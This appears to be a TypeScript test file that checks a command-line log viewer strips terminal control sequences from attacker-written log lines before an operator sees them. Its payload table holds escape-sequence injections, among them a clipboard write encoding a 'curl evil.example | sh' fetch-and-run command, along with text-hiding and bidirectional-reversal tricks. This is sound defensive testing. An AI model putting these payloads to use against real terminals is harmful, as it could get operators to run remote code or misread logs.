import assert from "node:assert/strict";
import { readdirSync, readFileSync } from "node:fs";
import path from "node:path";
import type * as commandLine from "../../cli/command-line";
import { type LogsOptions, showLogs } from "../../cli/host/logs";
import { CloudWatchLogs } from "../stand-ins/cloudwatch-logs";
import { dev, Operated } from "../cli/host/operated";
import { type Cut, without } from "./without";

type CommandLine = typeof commandLine;

const entry = "cli/command-line.ts";
const mend: Cut = { file: entry, text: "`${terminalText(line)}\\n`", instead: "`${line}\\n`" };

/**
 * Mallory has the application write a line of hers into its log, as by a name that nobody has at the sign-in, or deploys dev,
 * whose log she writes whole. Somebody with more rights reads it, in a terminal that obeys what it reads.
 */
const lines: Readonly<Record<string, string>> = {
  "empties the screen and says that all is well": "\u001b[2J\u001b[Hall is well",
  "writes over the time and the service": "\r2026-11-30T10:00:00Z caddy all is well",
  "goes up a line, over what was said before": "\u001b[1A\u001b[2Kall is well",
  "puts a command where the next paste comes from": "\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007",
  "has the terminal type its answer into the shell": "\u001b[6n\u001b[c\u0005",
  "names the window, or reads its name": "\u001b]0;prod is fine\u001b\\\\\u001b[21t",
  "does it by the second set of controls": "\u009b2J\u009d52;c;Y3VybA==\u009c",
  "hides what follows": "\u001b[8mfrom here on nothing is seen\u001b[30;40m",
  "turns the words around": "\u202eyad ta deyolped\u202c",
  "has figures change places, by a mark without a width": "paid 100\u200f + 5\u061c - 1\u200e",
  "rubs it out": "refused\u0008\u0008\u0008\u0008\u0008\u0008\u0008allowed\u007f",
};

/** What a terminal obeys, but for the end of a line. */
const obeyed = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

describe("somebody whose text an operator reads", () => {
  const operated = new Operated();
  const { containers } = dev.names.logGroups;
  let cloudWatch: CloudWatchLogs;
  beforeEach(() => {
    cloudWatch = new CloudWatchLogs([containers.name]);
    operated.aws.others["FilterLogEvents"] = (body) => cloudWatch.filterLogEvents(body);
  });

  async function shown({ print }: CommandLine, json: boolean): Promise<string> {
    const { stdout } = process;
    const write = stdout.write.bind(stdout);
    let text = "";
    const options: LogsOptions = { minutes: 10, follow: false, json };
    const quietly = { tell: () => undefined, signal: new AbortController().signal };
    const printOne = (line: string): void => {
      stdout.write = (part: string) => (text += part) !== "";
      try {
        print(line);
      } finally {
        stdout.write = write;
      }
    };
    await showLogs(dev, options, { print: printOne, ...quietly });
    return text;
  }

  for (const [title, line] of Object.entries(lines))
    it(`sees her line in the log, where it ${title}, and nothing of it happens`, async () => {
      cloudWatch.say(containers.name, "web-blue/01ab", Date.now() - 1_000, line);
      for (const json of [false, true]) {
        const mended = await shown((await without(entry, [])) as CommandLine, json);
        assert.doesNotMatch(mended, obeyed);
        assert.equal(mended.split("\n").length, 2);
        if (json) assert.equal((JSON.parse(mended) as { message: string }).message, line.trimEnd());
      }
      const before = await shown((await without(entry, [mend])) as CommandLine, false);
      assert.match(before, obeyed, "the attack shows nothing without the mend");
    });

  it("reaches the terminal in no way past that", () => {
    const files = readdirSync("cli", { recursive: true, encoding: "utf8" }).filter((file) => file.endsWith(".ts"));
    const writing = files.filter((file) =>
      /process\.std(out|err)\.write|console\.\w+\(/.test(readFileSync(path.join("cli", file), "utf8")),
    );
    assert.ok(files.length > 100);
    // A prompt and a line's end, and the scripts of the shells.
    const known = ["command-line.ts", "completion/index.ts", "deploy/standard-input.ts", "document.ts"];
    assert.deepEqual(writing.sort(), known);
  });
});
